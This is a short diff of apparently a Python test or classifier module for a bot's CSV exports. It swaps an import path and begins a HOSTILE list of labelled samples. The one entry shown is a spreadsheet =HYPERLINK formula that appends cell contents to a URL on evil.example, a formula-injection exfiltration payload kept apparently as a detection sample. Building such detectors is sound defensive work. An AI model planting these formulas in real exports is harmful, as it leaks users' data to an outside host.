@@ -18,7 +18,7 @@ from bot.database.exports import (
     write_people_csv,
     write_private,
 )
-from training.data import read_export
+from classifier.exports import read_export
 
 HOSTILE = [
     ('=HYPERLINK("http://evil.example/?"&A1,"click me")', "positive"),
